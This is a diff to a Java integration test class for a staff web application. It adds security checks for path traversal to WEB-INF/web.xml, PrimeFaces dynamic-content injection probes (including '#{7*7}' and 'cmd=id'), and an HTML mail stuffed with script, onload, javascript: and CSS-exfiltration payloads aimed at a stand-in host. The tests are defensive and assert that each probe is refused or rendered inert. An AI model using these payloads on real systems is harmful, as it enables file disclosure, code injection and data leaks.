@@ -21,6 +21,7 @@ import java.util.regex.Pattern;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
+import vn.langnghe.mail.listener.SmtpTalk;
 import vn.langnghe.platform.ToolDatabase;
 import vn.langnghe.testing.Http;
 import vn.langnghe.testing.Http.Reply;
@@ -30,8 +31,7 @@ import vn.langnghe.web.account.Colleague;
 
 /**
  * Rows S01–S30 of the catalogue of bad inputs for staff, each by its id. Not here: S06 (nothing is pushed to anybody),
- * S07 and S27 (no export and no page of figures yet), S03 (no act on several cases at once), S29 (staff upload nothing),
- * S20 and S21.
+ * S07 and S27 (no export and no page of figures yet), S03 (no act on several cases at once), S29 (staff upload nothing).
  * S16 in fifty variants is {@code RevealMisuseIT}, the accounts of S17, S23 and S24 are {@code web.account}.
  */
 class RowsS01ToS30IT {
@@ -90,7 +90,7 @@ class RowsS01ToS30IT {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"case", "redact", "paper", "reveal"})
+    @ValueSource(strings = {"case", "redact", "paper", "notice", "reveal"})
     void s01AForeignCaseIsAsOneThatDoesNotExist(String page) {
         String number = caseAt("PNV", "khác");
         same(each -> OTHER.get("/desk/" + page + "?number=" + each), number);
@@ -317,7 +317,7 @@ class RowsS01ToS30IT {
         assertThat(cookie)
                 .doesNotContain(planted)
                 .containsIgnoringCase("HttpOnly")
-                .containsIgnoringCase("SameSite=Strict");
+                .contains("SameSite=Strict");
         String mine = cookie.substring(0, cookie.indexOf(';'));
         assertThat(stranger.get("/desk/queue", "Cookie", mine).status()).isEqualTo(200);
         assertThat(stranger.get("/desk/queue", "Cookie", "langnghe=" + planted).status())
@@ -353,6 +353,7 @@ class RowsS01ToS30IT {
                 "/jakarta.faces.resource/web.xml.xhtml?loc=../../WEB-INF",
                 "/jakarta.faces.resource/web.xml.xhtml?con=..",
                 "/jakarta.faces.resource/..;/WEB-INF/web.xml",
+                "/;/WEB-INF/web.xml",
                 "/%2e%2e/WEB-INF/web.xml",
                 "/x/%2e%2e/WEB-INF/web.xml",
                 "//WEB-INF/web.xml",
@@ -366,6 +367,63 @@ class RowsS01ToS30IT {
         assertThat(raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
                 .matches("(?s)HTTP/1.1 40[034].*")
                 .doesNotContain("<servlet", "persistence-unit");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "dynamiccontent.properties.xhtml?ln=primefaces&v=1&pfdrt=sc&pfdrid=AAAAAAAAAAAAAAAAAAAAAA%3D%3D",
+                "dynamiccontent.properties.xhtml?ln=primefaces&pfdrt=sc&pfdrid=%23%7B7*7%7D",
+                "dynamiccontent.properties?ln=primefaces&pfdrt=sc&pfdrid=x&cmd=id"
+            })
+    void s20DynamicContentIsNotThere(String query) throws IOException {
+        assertThat(raw("GET /jakarta.faces.resource/" + query
+                        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
+                .startsWith("HTTP/1.1 404");
+    }
+
+    @Test
+    void s21AMailInHtmlIsShownWithoutAnythingThatActs() throws IOException {
+        String html = "<html><head><base href='https://bait.example/'><meta http-equiv=refresh"
+                + " content='0;url=https://bait.example/'><style>@import 'https://bait.example/a.css';"
+                + "input[value^=a]{background:url(https://bait.example/b)}</style></head><body onload=x()><p>Cửa đóng từ ba giờ.</p>"
+                + "<script>location='https://bait.example'</script><form action='https://bait.example'><input></form>"
+                + "<img src='https://bait.example/p.gif'><img src='cid:me@x'><object data='https://bait.example'></object>"
+                + "<img src='data:image/svg+xml;base64,PHN2Zz4='><svg onload=x()></svg>"
+                + "<a href='javascript:alert(1)'>Nhấn vào đây</a>" + "<div>".repeat(50_000)
+                + "<p>Cửa đóng.</p></body></html>";
+        String item = mailed("Content-Type: text/html; charset=UTF-8\r\n\r\n" + html.replaceAll("(.{900})", "$1\r\n"));
+        Reply page = TRIAGE.get("/desk/mailroom?tab=all&show=html&mail=" + item);
+        assertThat(page.status()).isEqualTo(200);
+        Matcher frame = Pattern.compile("<iframe[^>]*sandbox=\"\"[^>]*srcdoc=\"([^\"]*)\"")
+                .matcher(page.body());
+        assertThat(frame.find()).as("a frame that may do nothing").isTrue();
+        assertThat(frame.group(1))
+                .contains("Cửa đóng từ ba giờ.")
+                .doesNotContain("bait.example/p", "bait.example/a", "bait.example/b", "bait.example/&quot;")
+                .doesNotContainIgnoringCase("script&gt;")
+                .doesNotContainIgnoringCase("&lt;meta http-equiv=&quot;refresh")
+                .doesNotContainIgnoringCase("&lt;script")
+                .doesNotContainIgnoringCase("&lt;form")
+                .doesNotContainIgnoringCase("&lt;base")
+                .doesNotContainIgnoringCase("&lt;svg")
+                .doesNotContainIgnoringCase("javascript:")
+                .doesNotContainIgnoringCase("onload");
+    }
+
+    private static String mailed(String rest) throws IOException {
+        String id = UUID.randomUUID().toString().substring(0, 8);
+        String from = "nguoi." + id + "@example.org";
+        try (SmtpTalk talk = new SmtpTalk(SERVICE.smtpPort())) {
+            talk.begin(from, "phananh@localhost");
+            String mail = "From: <" + from + ">\r\nTo: phananh@localhost\r\nSubject: Thu " + id
+                    + "\r\nMIME-Version: 1.0\r\n" + rest;
+            assertThat(talk.data(mail.getBytes(UTF_8))).startsWith("250");
+        }
+        try (ToolDatabase database = SERVICE.database()) {
+            return database.one("select id as v from mail_item order by seq desc limit 1", row -> row.text("v"))
+                    .orElseThrow();
+        }
     }
 
     @Test
